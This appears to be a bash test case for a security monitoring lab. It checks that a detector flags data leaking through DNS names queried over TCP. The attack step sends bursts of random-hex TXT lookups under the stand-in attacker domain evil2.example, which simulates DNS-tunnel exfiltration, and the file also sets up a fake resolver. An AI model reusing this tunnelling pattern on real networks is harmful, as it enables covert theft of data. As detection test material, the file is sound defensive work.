# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='data leaves in names that are asked by TCP'
case_class=A
case_prepare() {
	lab_in outside python3 -c '
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.9", 53)); s.listen(99)
def one(c):
	try:
		while True:
			q = c.recv(600)
			if not q: break
			q = q[2:]; r = q[:2] + b"\x81\x83" + q[4:6] + b"\0\0\0\0\0\0" + q[12:]
			c.send(len(r).to_bytes(2, "big") + r)
	except OSError: pass
	c.close()
while True: threading.Thread(target=one, args=(s.accept()[0],)).start()' >/dev/null 2>&1 &
	lab_defer kill $!
	run app pg-many sh -c 'while sleep 0.5; do dig +tcp +tries=1 +time=1 @203.0.113.9 A www.example.org >/dev/null; done'
}
case_attack() { in_ app bash -c 'for ((i = 0; i < 150; i++)); do dig +tcp +tries=1 +time=1 @203.0.113.9 TXT $(printf "%04x%04x%04x%04x" $RANDOM $RANDOM $RANDOM $RANDOM).t.evil2.example >/dev/null & ((i % 20)) || wait; done; wait'; }
case_expect='dns.tunnel A16tcp-app /usr/bin/dig evil2.example'
